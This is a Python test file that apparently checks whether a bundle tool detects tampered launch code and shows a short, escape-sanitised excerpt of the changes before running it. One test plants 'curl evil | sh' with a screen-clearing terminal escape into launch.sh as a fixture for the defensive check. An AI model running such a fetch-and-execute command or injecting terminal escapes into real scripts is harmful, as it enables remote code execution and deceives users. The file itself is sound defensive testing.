"""Code from elsewhere is shown before it is run."""

from pathlib import Path

import pytest

from cvbundle.bundle.build import Compiled
from cvbundle.bundle.foreign import ForeignCode, foreign_code, require_own_code
from cvbundle.bundle.launch import read_spec


def _change(path: Path, content: bytes) -> None:
    for each in (path.parent, path):
        if each.exists():
            each.chmod(0o755)
    path.write_bytes(content)


def test_code_that_this_installation_writes_is_its_own(compiled: Compiled) -> None:
    spec = read_spec(compiled.bundle)
    assert foreign_code(compiled.bundle, spec) == []
    require_own_code(compiled.bundle, spec)


def test_what_is_other_about_the_code_is_shown_in_short(compiled: Compiled) -> None:
    bundle = compiled.bundle
    script = bundle / "launch.sh"
    _change(script, script.read_bytes().replace(b"set -euo pipefail", b"curl evil | sh\x1b[2J"))
    _change(bundle / "code/long.py", b"x = 1\n" * 99)
    with pytest.raises(ForeignCode, match=r"code/long\.py, launch\.sh.*--trust") as refused:
        require_own_code(bundle, read_spec(bundle))
    assert len(refused.value.excerpt) == 21
    assert refused.value.excerpt[-1].endswith("more lines")
    (bundle / "code/long.py").unlink()
    with pytest.raises(ForeignCode) as refused:
        require_own_code(bundle, read_spec(bundle))
    assert "-set -euo pipefail" in refused.value.excerpt
    # What a terminal would obey is not passed on.
    assert "+curl evil | sh\\x1b[2J" in refused.value.excerpt
